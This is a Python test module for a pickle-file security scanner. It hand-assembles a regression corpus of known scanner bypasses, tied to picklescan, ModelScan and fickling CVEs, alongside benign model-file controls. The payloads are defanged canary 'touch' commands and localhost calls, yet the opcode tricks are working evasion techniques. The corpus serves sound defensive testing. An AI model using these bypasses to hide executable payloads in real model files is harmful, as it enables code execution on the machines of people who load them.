"""Hand-assembled pickles: the regression corpus of known scanner bypasses, and benign controls.

Every malicious case is built from raw opcodes here (nothing downloaded).
Payloads are harmless: where one would run a command it is `touch <canary>`,
so `test_canary` can prove that scanning never executes anything. Cases are
grouped by the attack class of `known-bypasses.md` they stand for; the
scorecard in `bench/` runs the same corpus against other scanners.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

# ---- a small assembler -------------------------------------------------------------------

MARK, STOP, POP, POP_MARK, DUP = b"(", b".", b"0", b"1", b"2"
REDUCE, BUILD, APPEND, APPENDS, SETITEM, SETITEMS = b"R", b"b", b"a", b"e", b"s", b"u"
TUPLE, EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, LIST, DICT = b"t", b")", b"}", b"]", b"l", b"d"
TUPLE1, TUPLE2, TUPLE3, NONE, NEWTRUE = b"\x85", b"\x86", b"\x87", b"N", b"\x88"
NEWOBJ, NEWOBJ_EX, STACK_GLOBAL, MEMOIZE, OBJ = b"\x81", b"\x92", b"\x93", b"\x94", b"o"
EMPTY_SET, ADDITEMS, FROZENSET = b"\x8f", b"\x90", b"\x91"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def glob(module: str, name: str) -> bytes:
    """GLOBAL: module and name as two newline-terminated lines."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module: str, name: str) -> bytes:
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def u(text: str) -> bytes:
    """A unicode string: SHORT_BINUNICODE or BINUNICODE."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def string0(text: str) -> bytes:
    """Protocol 0 STRING: a quoted literal on a line."""
    return b"S'" + text.encode() + b"'\n"


def short_binstring(text: str) -> bytes:
    return b"U" + bytes([len(text)]) + text.encode()


def binstring(text: str) -> bytes:
    return b"T" + struct.pack("<i", len(text)) + text.encode()


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def integer(n: int) -> bytes:
    if 0 <= n < 256:
        return b"K" + bytes([n])
    return b"J" + struct.pack("<i", n)


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


def frame(n: int) -> bytes:
    return b"\x95" + struct.pack("<Q", n)


def ext1(code: int) -> bytes:
    return b"\x82" + bytes([code])


def sglobal(module: str, name: str) -> bytes:
    """STACK_GLOBAL with both names pushed as unicode strings."""
    return u(module) + u(name) + STACK_GLOBAL


def call(callable_: bytes, *args: bytes) -> bytes:
    """callable(*args) with REDUCE; leaves the result on the stack."""
    return callable_ + MARK + b"".join(args) + TUPLE + REDUCE


def shell(canary: str) -> str:
    return f"touch {canary}"


def system_call(canary: str, *, via: Callable[[str, str], bytes] = sglobal) -> bytes:
    return call(via("os", "system"), u(shell(canary)))


# ---- cases -------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    name: str
    attack: str  # the class of bypass in known-bypasses.md it stands for
    data: bytes
    filename: str = "model.pkl"
    expect: str = "critical"  # minimum severity auditor must report: critical or high
    runs_canary: bool = False  # unpickling it would create the canary


def _p4(body: bytes) -> bytes:
    return proto(4) + body + STOP


def malicious(canary: str) -> list[Case]:
    """One or more cases per attack class; `canary` is the path a payload would create."""
    cmd = u(shell(canary))
    evil = proto(2) + system_call(canary, via=glob) + STOP
    cases = [
        # -- picklescan -------------------------------------------------------------------
        Case("pip-main", "CVE-2025-1716 pip.main not denied",
             _p4(call(sglobal("pip", "main"), MARK + u("install") + u("evilpkg") + b"l"))),
        Case("odd-extension", "CVE-2025-1889 payload under a non-standard extension",
             evil, "weights.dat", runs_canary=True),
        Case("bare-pickle-bin", "CVE-2025-10155 bare pickle named .bin", evil,
             "pytorch_model.bin", runs_canary=True),
        Case("bare-pickle-pt", "CVE-2025-10155 bare pickle named .pt", evil, "model.pt",
             runs_canary=True),
        Case("unsafe-global-webbrowser", "GHSA-655q-fx9r-782v unlisted unsafe global",
             _p4(call(sglobal("webbrowser", "open"), u("http://127.0.0.1/x")))),
        Case("broken-stream-payload-first", "nullifAI broken stream, payload first",
             proto(2) + system_call(canary, via=glob) + b"\xff\xfe garbage", runs_canary=True),
        Case("seven-zip-repack", "nullifAI 7z repack (skipped archive type)",
             b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + evil, "model.7z", expect="high"),
        Case("asyncio-submodule", "CVE-2025-10157 submodule of a denied module",
             _p4(call(sglobal("asyncio.unix_events", "_UnixSubprocessTransport._start"),
                      NONE))),
        Case("stack-global-string-ops", "GHSA-9gvj STACK_GLOBAL operands from STRING ops",
             proto(2) + string0("os") + binstring("system") + STACK_GLOBAL + MARK + cmd + TUPLE
             + REDUCE + STOP, runs_canary=True),
        Case("stack-global-short-binstring-pop", "GHSA-9gvj look-back skipped opcode 0 (POP)",
             proto(2) + short_binstring("os") + short_binstring("system") + NONE + POP
             + STACK_GLOBAL + MARK + cmd + TUPLE + REDUCE + STOP, runs_canary=True),
        Case("bottleneck-main", "Aug 2025 batch: torch.utils.bottleneck.__main__",
             _p4(call(sglobal("torch.utils.bottleneck.__main__", "run_autograd_prof"),
                      u("import os"), EMPTY_DICT))),
        Case("ensurepip-run-pip", "Aug 2025 batch: ensurepip._run_pip",
             _p4(call(sglobal("ensurepip", "_run_pip"), MARK + u("install") + b"l"))),
        Case("lib2to3-grammar-loads", "Aug 2025 batch: lib2to3 Grammar.loads",
             _p4(call(sglobal("lib2to3.pgen2.grammar", "Grammar.loads"), binbytes(b"x")))),
        Case("idlelib-calltip", "CVE-2025-71361 idlelib Calltip.fetch_tip",
             _p4(call(sglobal("idlelib.calltip", "Calltip.fetch_tip"), NONE, u("x")))),
        Case("doctest-debug-script", "CVE-2025-71368 doctest.debug_script",
             _p4(call(sglobal("doctest", "debug_script"), u("import os")))),
        Case("cprofile-run", "CVE-2025-71374 / CVE-2026-22607 cProfile.run",
             _p4(call(sglobal("cProfile", "run"), u(f"import os; os.system('{shell(canary)}')"))),
             runs_canary=True),
        Case("profile-run", "CVE-2025-71341 profile.Profile.run",
             _p4(call(sglobal("profile", "Profile.run"), NONE, u("1")))),
        Case("trace-runctx", "CVE-2025-71352 trace.Trace.runctx",
             _p4(call(sglobal("trace", "Trace.runctx"), NONE, u("1")))),
        Case("code-interpreter-runcode", "CVE-2025-71371 code.InteractiveInterpreter.runcode",
             _p4(call(sglobal("code", "InteractiveInterpreter.runcode"), NONE, u("1")))),
        Case("pydoc-locate-methodcaller", "GHSA-84r2-jw7c-4r5q pydoc.locate + methodcaller",
             _p4(call(call(sglobal("operator", "methodcaller"), u("system"), cmd),
                      call(sglobal("pydoc", "locate"), u("os")))), runs_canary=True),
        Case("private-operator-attrgetter", "Dec 2025: _operator.attrgetter",
             _p4(call(call(sglobal("_operator", "attrgetter"), u("system")),
                      call(sglobal("importlib", "import_module"), u("os"))))),
        Case("ctypes-cdll", "Dec 2025: ctypes",
             _p4(call(sglobal("ctypes", "CDLL"), u("libc.so.6")))),
        Case("functools-partial", "Dec 2025: functools.partial",
             _p4(call(call(sglobal("functools", "partial"), sglobal("os", "system"), cmd)
                      + EMPTY_TUPLE + REDUCE)), runs_canary=True),
        Case("distutils-write-file", "Dec 2025: distutils.file_util.write_file",
             _p4(call(sglobal("distutils.file_util", "write_file"), u(canary), EMPTY_LIST))),
        Case("pty-spawn", "CVE-2025-67748 pty",
             _p4(call(sglobal("pty", "spawn"), u("/bin/true")))),
        Case("numpy-f2py", "Dec 2025: numpy.f2py",
             _p4(call(sglobal("numpy.f2py", "compile"), binbytes(b"x")))),
        Case("io-fileio", "GHSA-9726-w42j-3qjr _io.FileIO",
             _p4(call(sglobal("_io", "FileIO"), u("/etc/passwd")))),
        Case("urllib-urlopen", "GHSA-9726-w42j-3qjr urllib.request",
             _p4(call(sglobal("urllib.request", "urlopen"), u("http://127.0.0.1:9/")))),
        Case("cloudpickle-make-function", "GHSA-9m3x-qqw2-h32h cloudpickle + types.CodeType",
             _p4(call(sglobal("cloudpickle.cloudpickle", "_make_function"),
                      call(sglobal("types", "CodeType"), integer(0)), EMPTY_DICT, NONE, NONE,
                      NONE))),
        Case("logging-filehandler", "GHSA-m7j5-r2p5-c39r logging.FileHandler",
             _p4(call(sglobal("logging", "FileHandler"), u(canary)))),
        Case("pkgutil-resolve-name", "GHSA-7wx9-6375-f5wh pkgutil.resolve_name",
             _p4(call(call(sglobal("pkgutil", "resolve_name"), u("os:system")), cmd)),
             runs_canary=True),
        Case("uuid-command-stdout", "GHSA-vvpj-8cmc-gx39 uuid._get_command_stdout",
             _p4(call(sglobal("uuid", "_get_command_stdout"), u("touch"), u(canary))),
             runs_canary=True),
        Case("imaplib-stream", "GHSA-g38g-8gr9-h9xp imaplib.IMAP4_stream",
             _p4(call(sglobal("imaplib", "IMAP4_stream"), cmd))),
        Case("pyrepl-pager", "CVE-2026-56315 _pyrepl.pager",
             _p4(call(sglobal("_pyrepl.pager", "pipe_pager"), u("x"), cmd))),
        Case("test-support", "GHSA-7wx9 test.support helpers",
             _p4(call(sglobal("test.support.script_helper", "assert_python_ok"), u("-c"),
                      u("1")))),
        Case("memo-put-memoize-mix", "picklescan#14 memo confusion (PUT and MEMOIZE mixed)",
             # MEMOIZE keys by len(memo): after PUT 5 they are 1, 2, 3, not 0, 1, 2
             _p4(u("builtins") + put(5) + POP + u("os") + MEMOIZE + POP + u("system") + MEMOIZE
                 + POP + u("decoy") + MEMOIZE + POP + get(1) + get(2) + STACK_GLOBAL + MARK + cmd
                 + TUPLE + REDUCE), runs_canary=True),
        Case("memo-nonstring-keys", "picklescan PR #52 invalid / non-string memo entries",
             _p4(EMPTY_TUPLE + put(7) + POP + u("os") + put(0) + u("system") + put(200) + POP
                 + POP + get(0) + get(200) + STACK_GLOBAL + MARK + cmd + TUPLE + REDUCE),
             runs_canary=True),
        Case("importlib-getattr-static", "picklescan 1.0.4 importlib + inspect.getattr_static",
             _p4(call(call(sglobal("inspect", "getattr_static"),
                           call(sglobal("importlib", "import_module"), u("os")), u("system")),
                      cmd)), runs_canary=True),
        Case("marshal-function", "CVE-2025-67747 marshal.loads + types.FunctionType",
             _p4(call(sglobal("types", "FunctionType"),
                      call(sglobal("marshal", "loads"), binbytes(b"\xe3")), EMPTY_DICT))),
        Case("codecs-open-lfi", "picklescan <= 0.0.22 codecs.open LFI",
             _p4(call(call(sglobal("operator", "methodcaller"), u("read")),
                      call(sglobal("codecs", "open"), u("/etc/passwd"))))),
        # -- ModelScan --------------------------------------------------------------------
        Case("modelscan-85-build-setattr", "ModelScan #85 BUILD setattr on an allowlisted object",
             _p4(sglobal("numpy", "prod") + NONE + EMPTY_DICT + u("a") + u("os") + SETITEM
                 + TUPLE2 + BUILD + POP + u("os") + put(9) + POP + u("system") + put(10) + POP
                 + get(9) + get(10) + STACK_GLOBAL + MARK + cmd + TUPLE + REDUCE),
             runs_canary=True),
        Case("modelscan-330-builtins-overwrite", "ModelScan #330 numpy.__builtins__ overwrite",
             _p4(sglobal("numpy", "__builtins__") + u("eval") + sglobal("builtins", "eval")
                 + SETITEM + POP + call(sglobal("builtins", "getattr"),
                                        sglobal("numpy", "__builtins__"), u("eval")) + POP)),
        Case("modelscan-331-join-os", "ModelScan #331 getattr(str, 'join') assembles 'os'",
             _p4(call(call(sglobal("builtins", "getattr"), sglobal("builtins", "str"), u("join")),
                      u(""), MARK + u("o") + u("s") + b"l") + put(3)
                 + u("system") + STACK_GLOBAL + MARK + cmd + TUPLE + REDUCE), runs_canary=True),
        Case("modelscan-267-nested-loads", "ModelScan #267 nested pickle.loads",
             _p4(call(sglobal("pickle", "loads"), binbytes(evil))), runs_canary=True),
        Case("modelscan-270-private-pickle", "ModelScan #270 _pickle.loads",
             _p4(call(sglobal("_pickle", "loads"), binbytes(evil))), runs_canary=True),
        Case("modelscan-338-collect-env", "ModelScan #338 torch.utils.collect_env.run",
             _p4(call(sglobal("torch.utils.collect_env", "run"), cmd))),
        Case("modelscan-338-spawnv", "ModelScan #338 multiprocessing.util.spawnv_passfds",
             _p4(call(sglobal("multiprocessing.util", "spawnv_passfds"), u("/bin/true"),
                      EMPTY_LIST, EMPTY_TUPLE))),
        Case("modelscan-338-mlflow", "ModelScan #338 mlflow _run_entry_point",
             _p4(call(sglobal("mlflow.projects.backend.local", "_run_entry_point"), cmd,
                      u("."), EMPTY_DICT))),
        Case("modelscan-338-pandas-read-csv", "ModelScan #338 pandas read_csv(url)",
             _p4(call(sglobal("pandas.io.parsers.readers", "read_csv"),
                      u("http://127.0.0.1:9/x.csv")))),
        Case("huntr-http-client", "ModelScan huntr http.client.HTTPSConnection",
             _p4(call(sglobal("http.client", "HTTPSConnection"), u("127.0.0.1")))),
        Case("huntr-xmlrpc", "ModelScan huntr xmlrpc.client.ServerProxy",
             _p4(call(sglobal("xmlrpc.client", "ServerProxy"), u("http://127.0.0.1:9")))),
        Case("huntr-io-open", "ModelScan huntr io.open",
             _p4(call(sglobal("io", "open"), u(canary), u("w")))),
        Case("huntr-logging-fileconfig", "ModelScan huntr logging.config.fileConfig",
             _p4(call(sglobal("logging.config", "fileConfig"), u("/tmp/x.ini")))),
        Case("huntr-dictconfig", "ModelScan huntr logging.config.dictConfig string-resolved",
             _p4(call(sglobal("logging.config", "dictConfig"), EMPTY_DICT + u("handlers")
                      + EMPTY_DICT + SETITEM))),
        Case("huntr-code-compile-command", "ModelScan huntr code.compile_command",
             _p4(call(sglobal("code", "compile_command"), u("1")))),
        Case("huntr-cgi-test", "ModelScan huntr cgi.test", _p4(call(sglobal("cgi", "test")))),
        Case("huntr-joblib-ctypes", "ModelScan huntr joblib with ctypes.CDLL",
             _p4(call(sglobal("ctypes", "CDLL"), NONE)), "model.joblib"),
        Case("memo-poison-after-pop", "ModelScan huntr MEMOIZE right after POP",
             _p4(u("os") + u("system") + NONE + POP + MEMOIZE + POP + MEMOIZE + POP + get(1)
                 + get(0) + STACK_GLOBAL + MARK + cmd + TUPLE + REDUCE), runs_canary=True),
        # -- fickling ---------------------------------------------------------------------
        Case("runpy-run-path", "CVE-2026-22606 runpy.run_path",
             _p4(call(sglobal("runpy", "run_path"), u("/tmp/x.py")))),
        Case("posixsubprocess-fork-exec", "CVE-2026-14534 _posixsubprocess.fork_exec",
             _p4(call(sglobal("_posixsubprocess", "fork_exec"), NONE))),
        Case("site-execsitecustomize", "CVE-2026-14534 site.execsitecustomize",
             _p4(call(sglobal("site", "execsitecustomize")))),
        Case("atexit-run-exitfuncs", "CVE-2026-14534 atexit._run_exitfuncs",
             _p4(call(sglobal("atexit", "_run_exitfuncs")))),
        Case("setitems-hides-call", "CVE-2026-14534 UnusedVariables defeated with SETITEMS",
             _p4(EMPTY_DICT + MARK + u("k") + system_call(canary) + SETITEMS),
             runs_canary=True),
        Case("unlisted-stdlib", "CVE-2026-14535 non-denied stdlib import passed as safe",
             _p4(call(sglobal("mailcap", "findmatch"), EMPTY_DICT, u("text/plain"))),
             expect="high"),
        Case("newobj-discarded", "GHSA-mxhj-88fx-4pcv NEWOBJ result discarded by POP",
             _p4(sglobal("smtplib", "SMTP") + MARK + u("127.0.0.1") + TUPLE + NEWOBJ + POP
                 + NONE)),
        Case("obj-discarded", "GHSA-mxhj-88fx-4pcv OBJ result discarded by POP",
             _p4(MARK + sglobal("socketserver", "TCPServer") + MARK + u("") + integer(0) + TUPLE
                 + NONE + OBJ + POP + NONE)),
        Case("dotted-stack-global", "GHSA-5j3x-jp52-966f pathlib + os.system",
             _p4(call(sglobal("pathlib", "os.system"), cmd)), runs_canary=True),
        Case("dotted-builtins-getattr", "GHSA-5j3x dotted name through a harmless module",
             _p4(call(sglobal("collections", "__builtins__.getattr"), NONE, u("x")))),
        Case("private-interpreters", "GHSA-6ggj-6f2q-f7mx _interpreters.run_string",
             _p4(call(sglobal("_interpreters", "run_string"), integer(0), u("1")))),
        Case("pickle-private-loads", "GHSA-wccx-j62j-r448 pickle._loads",
             _p4(call(sglobal("pickle", "_loads"), binbytes(evil))), runs_canary=True),
        Case("pickle-private-unpickler", "GHSA-fphw-536r-4p88 pickle._Unpickler",
             _p4(call(sglobal("pickle", "_Unpickler"), NONE))),
        Case("platform-popen", "GHSA-5cxw-w2xg-2m8h platform",
             _p4(call(sglobal("platform", "popen"), cmd)), runs_canary=False),
        Case("linecache-getline", "GHSA-r48f-3986-4f9c linecache",
             _p4(call(sglobal("linecache", "getline"), u("/etc/passwd"), integer(1)))),
        Case("gc-get-objects", "GHSA-r48f-3986-4f9c gc", _p4(call(sglobal("gc", "get_objects")))),
        Case("frame-crossing", "fickling #317 opcode argument crosses its FRAME",
             proto(4) + frame(5) + u("os") + u("system") + STACK_GLOBAL + MARK + cmd + TUPLE
             + REDUCE + STOP, runs_canary=True),
        Case("billion-laughs", "fickling #211 GET/DUP expansion against the analyser",
             _billion_laughs(), expect="high"),
        # -- cross-tool -------------------------------------------------------------------
        Case("shadowpickle-ordereddict", "ShadowPickle allowlist overwrite of OrderedDict",
             _p4(sglobal("collections", "abc") + NONE + EMPTY_DICT + u("OrderedDict")
                 + sglobal("os", "system") + SETITEM + TUPLE2 + BUILD + POP
                 + call(sglobal("collections.abc", "OrderedDict"), cmd)), runs_canary=True),
        Case("shadowpickle-module-dict", "ShadowPickle via a module __dict__",
             _p4(sglobal("collections", "__dict__") + u("OrderedDict") + sglobal("os", "system")
                 + SETITEM + POP + call(sglobal("collections", "OrderedDict"), cmd)),
             runs_canary=True),
        Case("truncated-after-payload", "parser differential: truncated stream",
             proto(2) + system_call(canary, via=glob) + b"X\xff\xff\x00", runs_canary=True),
        Case("legacy-magic-from-reduce", "GHSA-97f8-7cmv-76j2 legacy magic number via REDUCE",
             _legacy_magic_reduce(canary), "model.pt", runs_canary=True),
        Case("second-pickle-payload", "keep going after STOP: payload in a second pickle",
             pickle.dumps({"weights": [1, 2]}, protocol=2) + evil, runs_canary=True),
        Case("ext-code", "EXT1 copyreg registry code (unresolvable)",
             _p4(ext1(1) + MARK + cmd + TUPLE + REDUCE), expect="high"),
        Case("inst-protocol0", "INST of os.system, protocol 0",
             MARK + b"V" + shell(canary).encode() + b"\n" + inst("os", "system") + STOP,
             runs_canary=True),
        Case("unicode-lookalike", "exact-match evasion with look-alike characters",
             _p4(call(sglobal("o\u0455", "system"), cmd)), expect="high"),
        Case("whitespace-name", "exact-match evasion with whitespace",
             proto(2) + call(glob("os ", "system"), cmd) + STOP),
        Case("torchscript-class-outside", "__torch__ class outside a TorchScript archive",
             _p4(call(sglobal("__torch__.evil", "Payload"))), expect="high"),
        Case("zip-local-name-mismatch", "CVE-2025-1944 zip local name differs from central",
             _zip_variant(evil, "local-name"), "model.pt", expect="high"),
        Case("zip-flipped-flags", "CVE-2025-1945 flipped zip flag bits",
             _zip_variant(evil, "flags"), "model.pt", expect="high"),
        Case("zip-bad-crc", "CVE-2025-10156 corrupted zip CRC",
             _zip_variant(evil, "crc"), "model.pt", expect="high"),
        # -- names built while loading (issue 15, class 3) ------------------------------
        Case("rot13-name-via-safe-codec", "computed name: _codecs.encode(rot13) builds 'system'",
             _p4(call(u("os") + call(glob("_codecs", "encode"), u("flfgrz"), u("rot13"))
                      + STACK_GLOBAL, cmd)), runs_canary=True),
        Case("joined-module-name", "computed name: str.join builds 'os' (picklescan #331)",
             _p4(call(call(glob("builtins", "str.join"), u(""),
                           EMPTY_LIST + MARK + u("o") + u("s") + APPENDS)
                      + u("system") + STACK_GLOBAL, cmd)), runs_canary=True),
        Case("base64-module-name", "computed name: base64 + bytes.decode build 'os'",
             _p4(call(call(glob("builtins", "bytes.decode"), call(glob("base64", "b64decode"),
                                                                 u("b3M=")))
                      + u("system") + STACK_GLOBAL, cmd)), runs_canary=True),
        Case("locate-methodcaller", "CVE-2025-71320 pydoc.locate + operator.methodcaller",
             _p4(call(call(glob("operator", "methodcaller"), u("system"), cmd),
                      call(glob("pydoc", "locate"), u("os")))), runs_canary=True),
        # -- re-exports through allowlisted libraries (issue 15, class 4) ----------------
        Case("sklearn-reexported-listener", "re-export: multiprocessing Listener under sklearn",
             _p4(call(sglobal("sklearn.callback._transport", "Listener"),
                      MARK + u("127.0.0.1") + integer(0) + TUPLE))),
        Case("module-alias-walk", "re-export: numpy reached as sklearn.base.np (np.load)",
             _p4(call(sglobal("sklearn.base", "np.load"), u("x.npy")))),
    ]
    return cases


def _billion_laughs() -> bytes:
    """30 levels of (x, x) tuples via DUP/GET, hashed into a frozenset and passed to a call."""
    body = u("lol") + put(0)
    for i in range(1, 31):
        body += get(i - 1) + DUP + TUPLE2 + put(i % 256)
    body += MARK + get(30) + FROZENSET + TUPLE1
    body = sglobal("laughs", "expand") + body + REDUCE
    return _p4(body)


def _legacy_magic_reduce(canary: str) -> bytes:
    """Legacy torch layout whose first pickle computes the magic number with a call."""
    magic = proto(2) + call(glob("builtins", "eval"), u(
        f"__import__('os').system('{shell(canary)}') or 0x1950a86a20f9469cfc6c")) + STOP
    rest = pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2)
    rest += pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2)
    return magic + rest


def _zip_variant(member: bytes, how: str) -> bytes:
    """A PyTorch-style zip holding `member` as archive/data.pkl, then broken as `how` says."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", member)
        zf.writestr("archive/version", b"3\n")
    data = bytearray(buf.getvalue())
    if how == "local-name":
        data[30:46] = b"archive/xata.pkl"
    elif how == "flags":
        data[6] |= 0x01  # "encrypted" bit in the local header only
    elif how == "crc":
        data[14] ^= 0xFF
        cd = data.find(b"PK\x01\x02")
        data[cd + 16] ^= 0xFF
    return bytes(data)


# ---- benign controls ---------------------------------------------------------------------

def benign_plain() -> list[Case]:
    """Pickles of plain containers at every protocol: must pass the default gate."""
    import collections
    import datetime

    value = {
        "ints": [1, -2, 3 << 40, 10**30], "floats": [0.5, float("inf")], "text": "weights",
        "bytes": b"\x00\x01", "nested": {"t": (1, (2, 3)), "s": {1, 2}, "f": frozenset({4})},
        "od": collections.OrderedDict(a=1), "none": None, "flag": True,
        "when": datetime.date(2024, 1, 2), "big": bytearray(b"x" * 10),
    }
    return [Case(f"plain-protocol-{p}", "benign", pickle.dumps(value, protocol=p),
                 expect="clean") for p in range(6)]


def benign_torch_legacy() -> list[Case]:
    """Real legacy (non-zip) torch.save outputs."""
    import collections

    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    opt = torch.optim.Adam(model.parameters())
    model(torch.randn(2, 4)).sum().backward()
    opt.step()
    objects = {
        "state-dict": model.state_dict(),
        "optimizer": opt.state_dict(),
        "nested": {"epoch": 3, "sd": model.state_dict(), "extra": [torch.arange(5),
                   torch.zeros(2, dtype=torch.bfloat16), torch.ones(3, dtype=torch.bool)]},
        "shared-views": collections.OrderedDict(a=(t := torch.arange(10.0)), b=t[2:5]),
    }
    out = []
    for name, obj in objects.items():
        for p in (2, 4, 5):
            buf = io.BytesIO()
            torch.save(obj, buf, _use_new_zipfile_serialization=False, pickle_protocol=p)
            out.append(Case(f"torch-legacy-{name}-p{p}", "benign", buf.getvalue(), "model.pt",
                            expect="clean"))
    return out


def benign_joblib(tmp: str) -> list[Case]:
    """joblib dumps of numeric arrays (raw buffers in the stream), plain and compressed."""
    import os

    import joblib
    import numpy as np

    value = {"w": np.arange(12, dtype=np.float32).reshape(3, 4), "b": np.zeros(5, np.int64),
             "f": np.asfortranarray(np.ones((2, 3))), "u": np.array(["ab", "c"]),
             "scalar": np.float64(1.5), "empty": np.zeros((0, 3))}
    out = []
    for name, kwargs in (("plain", {}), ("zlib", {"compress": ("zlib", 3)})):
        path = os.path.join(tmp, f"arrays-{name}.joblib")
        joblib.dump(value, path, **kwargs)
        with open(path, "rb") as f:
            out.append(Case(f"joblib-{name}", "benign", f.read(), "arrays.joblib",
                            expect="clean"))
    return out


def sklearn_estimator(tmp: str) -> Case:
    """A fitted scikit-learn estimator dumped with joblib: known-ml, so medium at most."""
    import os

    import joblib
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.RandomState(0)
    x, y = rng.rand(40, 3), (rng.rand(40) > 0.5).astype(int)
    model = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
    forest = RandomForestClassifier(n_estimators=3, random_state=rng).fit(x, y)
    path = os.path.join(tmp, "estimator.joblib")
    joblib.dump({"pipe": model, "forest": forest}, path)
    with open(path, "rb") as f:
        return Case("sklearn-estimator", "benign", f.read(), "estimator.joblib",
                    expect="medium")
